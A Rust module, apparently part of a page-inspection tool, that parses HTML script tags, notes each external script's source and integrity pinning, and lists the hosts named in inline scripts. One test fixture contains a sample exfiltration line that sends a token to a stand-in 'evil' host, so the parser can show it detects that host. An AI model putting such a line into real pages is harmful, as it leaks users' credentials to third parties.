//! Programs in a page's HTML: where they are from, and what hosts they speak to.

use std::collections::BTreeSet;

use serde::{Deserialize, Serialize};

use crate::decode::{address::bare, lenient};

/// A program that a page loads.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Script {
    /// Where from, without what follows the path.
    #[serde(default, deserialize_with = "lenient::text")]
    pub source: Option<String>,
    /// Whether the browser is told what it must be (`integrity`).
    #[serde(default, deserialize_with = "lenient::flag")]
    pub is_pinned: Option<bool>,
}

/// The programs that HTML loads, and the hosts named in those that it has in it.
pub(super) fn of(html: &str) -> (Vec<Script>, Vec<String>) {
    let (mut loaded, mut hosts) = (Vec::new(), BTreeSet::new());
    let mut rest = html;
    while let Some(at) = find(rest, "<script") {
        rest = &rest[at + "<script".len()..];
        let end = end_of_tag(rest);
        let (tag, behind) = rest.split_at(end);
        let inside = &behind[..find(behind, "</script").unwrap_or(behind.len())];
        rest = &behind[inside.len()..];
        match attribute(tag, "src") {
            Some(source) => loaded.push(Script { source: Some(bare(source)), is_pinned: Some(attribute(tag, "integrity").is_some()) }),
            None => hosts.extend(hosts_in(inside)),
        }
    }
    (loaded, hosts.into_iter().collect())
}

/// Where an ASCII word stands, in whatever case.
fn find(text: &str, word: &str) -> Option<usize> {
    text.as_bytes().windows(word.len()).position(|window| window.eq_ignore_ascii_case(word.as_bytes()))
}

/// Where a tag ends: a `>` in quotes is none.
fn end_of_tag(tag: &str) -> usize {
    let mut quote = None;
    for (at, byte) in tag.bytes().enumerate() {
        match quote {
            Some(open) if byte == open => quote = None,
            None if byte == b'"' || byte == b'\'' => quote = Some(byte),
            None if byte == b'>' => return at,
            _ => {}
        }
    }
    tag.len()
}

/// The value of an attribute, if the tag has it.
fn attribute<'a>(tag: &'a str, name: &str) -> Option<&'a str> {
    let mut rest = tag;
    while let Some(at) = find(rest, name) {
        let before = rest[..at].bytes().next_back();
        let behind = rest[at + name.len()..].trim_start();
        if before.is_none_or(|byte| byte.is_ascii_whitespace() || byte == b'"' || byte == b'\'')
            && let Some(value) = behind.strip_prefix('=')
        {
            let value = value.trim_start();
            let quote = value.chars().next().filter(|quote| matches!(quote, '"' | '\''));
            return Some(match quote {
                Some(quote) => value[1..].split(quote).next().unwrap_or_default(),
                None => value.split(|c: char| c.is_ascii_whitespace()).next().unwrap_or_default(),
            });
        }
        rest = &rest[at + name.len()..];
    }
    None
}

/// The hosts of the addresses in a program's text.
fn hosts_in(program: &str) -> impl Iterator<Item = String> {
    let host = |rest: &str| -> String {
        let end = rest.find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':'))).unwrap_or(rest.len());
        rest[..end].to_ascii_lowercase()
    };
    let after = |scheme: &'static str| program.split(scheme).skip(1).map(host).filter(|host| !host.is_empty());
    after("https://").chain(after("http://"))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn programs_are_found_whatever_way_they_are_written() {
        let html = r#"<head><SCRIPT async SRC='https://cdn.example/a.js?key=S3CRET'></SCRIPT><script data-src="x" src = "//b.example/b.js" integrity="sha384-x" ></script>
            <script nonce="{{n}}">fetch("https://Evil.example:8443/?t=" + token); var s = "http://other.example"</script><script src=/local.js></script><script"#;
        let (loaded, hosts) = of(html);
        let loaded: Vec<_> = loaded.iter().map(|script| (script.source.as_deref().unwrap(), script.is_pinned.unwrap())).collect();
        assert_eq!(loaded, [("https://cdn.example/a.js", false), ("//b.example/b.js", true), ("/local.js", false)]);
        assert_eq!(hosts, ["evil.example:8443", "other.example"]);
    }

    proptest! {
        #[test]
        fn no_page_is_too_odd_to_be_looked_at(html in r#"(<script|src|=|"|'|>|</script>|https://| |ä|[a-z])*"#) {
            of(&html);
        }
    }
}
